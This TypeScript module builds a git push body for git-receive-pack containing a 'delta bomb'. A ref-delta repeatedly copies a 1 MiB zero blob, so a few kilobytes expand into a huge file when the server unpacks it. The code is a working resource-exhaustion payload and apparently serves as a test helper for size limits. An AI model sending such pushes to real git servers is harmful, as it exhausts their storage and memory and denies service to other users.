import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';

/** The types of objects in a pack (gitformat-pack(5)). */
const TYPES = { commit: 1, tree: 2, blob: 3, 'ref-delta': 7 } as const;
const PERSON = 'Eve <eve@example.com> 1700000000 +0000';

const idOf = (type: string, ...content: Buffer[]): Buffer => {
  const hash = createHash('sha1').update(`${type} ${content.reduce((sum, { length }) => sum + length, 0)}\0`);
  for (const bytes of content) hash.update(bytes);
  return hash.digest();
};

/** A size in groups of seven bits, the lowest first. */
function varint(size: number): Buffer {
  const bytes: number[] = [];
  for (let left = size; ; left = Math.floor(left / 128)) {
    bytes.push((left % 128) | (left >= 128 ? 0x80 : 0));
    if (left < 128) return Buffer.from(bytes);
  }
}

function packed(type: keyof typeof TYPES, content: Buffer, base: Buffer = Buffer.alloc(0)): Buffer {
  const rest = content.length >= 16 ? varint(Math.floor(content.length / 16)) : Buffer.alloc(0);
  const first = Buffer.from([(rest.length ? 0x80 : 0) | (TYPES[type] << 4) | (content.length % 16)]);
  return Buffer.concat([first, rest, base, deflateSync(content)]);
}

/**
 * A push, as posted to git-receive-pack, of a commit with one file of `repeats` MiB of zeros that takes a few kilobytes:
 * a delta that says "the first MiB, again" that many times.
 */
export function deltaBombPush(ref: string, repeats: number): { commit: string; body: Buffer } {
  const base: Buffer = Buffer.alloc(1 << 20);
  const copyAll = Buffer.from([0x80 | 0x40, 0x10]); // from offset 0, size 0x100000: only the third byte is not zero
  const delta = Buffer.concat([
    varint(base.length),
    varint(base.length * repeats),
    ...Array.from({ length: repeats }, () => copyAll),
  ]);
  const file = idOf('blob', ...Array.from({ length: repeats }, () => base));
  const tree = Buffer.concat([Buffer.from('100644 index.html\0'), file]);
  const text = `tree ${idOf('tree', tree).toString('hex')}\nauthor ${PERSON}\ncommitter ${PERSON}\n\nbomb\n`;
  const commit = idOf('commit', Buffer.from(text)).toString('hex');
  const objects = [
    packed('blob', base),
    packed('ref-delta', delta, idOf('blob', base)),
    packed('tree', tree),
    packed('commit', Buffer.from(text)),
  ];
  const header = Buffer.from('PACK\0\0\0\u0002\0\0\0\0', 'latin1');
  header.writeUInt32BE(objects.length, 8);
  const pack = Buffer.concat([header, ...objects]);
  const line = `${'0'.repeat(40)} ${commit} ${ref}\0report-status side-band-64k`;
  const head = `${(line.length + 4).toString(16).padStart(4, '0')}${line}0000`;
  return { commit, body: Buffer.concat([Buffer.from(head), pack, createHash('sha1').update(pack).digest()]) };
}
